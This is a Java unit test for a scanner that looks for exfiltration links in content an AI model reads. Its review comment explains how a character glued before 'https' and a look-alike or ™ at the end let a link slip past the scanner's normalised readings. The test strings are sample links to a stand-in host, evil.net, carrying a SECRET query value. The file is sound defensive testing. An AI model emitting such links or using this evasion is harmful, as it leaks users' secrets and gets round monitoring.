package dev.tollgate.policy.detect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Review (0777514): the new drop rule ("in the apart readings a link that ends where a character was read apart is
 * left to the joined reading") assumes the joined reading sees the link. An attacker glues a character to the front of
 * the scheme (JOINED reads {@code ahttps://} / {@code TMhttps://}: no \b, no link) and ends the link with a character
 * that is read apart (a look-alike at the word's edge, or any compatibility character such as ™). In every apart reading
 * the link then ends right where a character was read apart and is dropped; in JOINED it is never matched. The model
 * reads an ordinary exfiltration link (the trailing letter is just part of the query). Expected: a finding.
 * (A fix: drop an apart-reading link only when the joined reading found a link over the same start.)
 */
class ThreeReadingsApartEndDropReviewTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "\u0430https://evil.net/c?k=SECRET\u0445",          // Cyrillic а before, Cyrillic х after
            "\u2122https://evil.net/c?k=SECRET\u2122",          // ™ before and after
            "[docs](\u0430https://evil.net/c?k=SECRET\u0445)",   // as a markdown link
    })
    void aLinkGluedInFrontAndEndingInAnApartCharacterIsFound(String text) {
        List<Finding> found = DocumentScan.scan(TextNode.valueOf(text), List.of(Detectors.exfiltrationUrls(List.of("docs.example.com"))));
        assertThat(found).as(text).isNotEmpty();
    }
}
